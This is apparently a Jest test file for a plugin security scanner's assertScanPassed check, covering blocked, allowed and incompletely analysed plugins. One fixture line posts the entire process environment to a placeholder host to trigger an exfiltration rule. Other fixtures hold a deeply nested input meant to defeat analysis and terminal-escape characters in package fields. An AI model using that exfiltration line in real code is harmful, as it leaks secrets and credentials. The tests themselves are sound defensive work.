import { describe, expect, it } from '@jest/globals';
import { pluginFiles, type PluginSketch } from '@ragnos-vault/testing';
import { assertScanPassed, DEFAULT_POLICY, scan, type Policy, type ScanReport } from '../index.ts';

const SHA = 'ab'.repeat(32);
const report = (plugin: PluginSketch, policy: Partial<Policy> = {}): ScanReport =>
  scan(
    { files: pluginFiles(plugin), name: '@acme/a', version: '1.2.3', sha256: SHA, now: new Date(0) },
    { ...DEFAULT_POLICY, ...policy },
  );

const SEND = `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`;
const ENDLESS = '['.repeat(100_000);
const allow = [{ name: '@acme/a', version: '1.2.3', sha256: SHA }];

describe('assertScanPassed', () => {
  it.each<[string, ScanReport]>([
    ['a plugin without findings', report('module.exports = 1;')],
    ['a plugin with findings below the limit', report({ 'package.json': '{"scripts":{"prepare":"tsc"}}' })],
    ['a plugin that is allowed', report(SEND, { allow })],
  ])('lets %s through', (...[, passed]) => {
    expect(() => assertScanPassed(passed)).not.toThrow();
  });

  it('names the worst finding, and counts those that block', () => {
    const blocked = report({
      'a.json': '{}',
      'package.json': '{"scripts":{"prepare":"tsc"},"dependencies":{"a":"github:a/a"}}',
      'z.js': SEND,
    });
    expect(blocked.findings).toHaveLength(3);
    expect(() => assertScanPassed(blocked)).toThrow(
      expect.objectContaining({
        code: 'ERR_SCAN_BLOCKED',
        message: '@acme/a@1.2.3 is stopped by EXF-001 in z.js: sends the whole environment',
        facts: { name: '@acme/a', version: '1.2.3', sha256: SHA, rule: 'EXF-001', path: 'z.js', findings: 2 },
      }),
    );
  });

  it.each<[string, Partial<Policy>]>([
    ['under the default policy', {}],
    ['that is allowed', { allow }],
    ['under the most lenient policy', { allow, failOn: 'critical' }],
  ])('refuses a scan %s which is incomplete', (...[, policy]) => {
    expect(() => assertScanPassed(report(ENDLESS, policy))).toThrow(
      expect.objectContaining({
        code: 'ERR_SCAN_INCOMPLETE',
        message: '@acme/a@1.2.3 is stopped by ANA-002 in index.js: not analysed: nested too deeply',
        facts: {
          name: '@acme/a',
          version: '1.2.3',
          sha256: SHA,
          rule: 'ANA-002',
          path: 'index.js',
          findings: 1,
        },
      }),
    );
  });

  it.each([
    ['no policy lets pass', 'MAN-007', 'read the findings; no policy lets MAN-007 pass'],
    ['a policy may allow', 'EXF-001', 'read the findings; a policy may allow this name, version and sha256'],
  ])('advises what helps where the rule is one that %s', (_name, rule, hint) => {
    const [finding] = report(SEND).findings;
    const blocked: ScanReport = { ...report(SEND), findings: [{ ...finding!, rule }] };
    expect(() => assertScanPassed(blocked)).toThrow(
      expect.objectContaining({ code: 'ERR_SCAN_BLOCKED', hint }),
    );
  });

  it('says that a scan is incomplete even where other findings block too', () => {
    const both = report({ 'a.js': ENDLESS, 'b.js': SEND });
    expect(() => assertScanPassed(both)).toThrow(
      expect.objectContaining({
        code: 'ERR_SCAN_INCOMPLETE',
        facts: expect.objectContaining({ findings: 2 }) as unknown,
      }),
    );
  });

  it('refuses a blocking report that holds no finding', () => {
    const empty: ScanReport = { ...report(ENDLESS), findings: [] };
    expect(() => assertScanPassed(empty)).toThrow(expect.objectContaining({ code: 'ERR_SCAN_INCOMPLETE' }));
  });

  it('puts no character that steers a terminal into its message', () => {
    const hostile: ScanReport = { ...report(SEND), name: 'a\u001b[2J', version: '\u202e1' };
    expect(() => assertScanPassed(hostile)).toThrow(
      expect.objectContaining({
        message: 'a\\u{1b}[2J@\\u{202e}1 is stopped by EXF-001 in index.js: sends the whole environment',
      }),
    );
  });
});
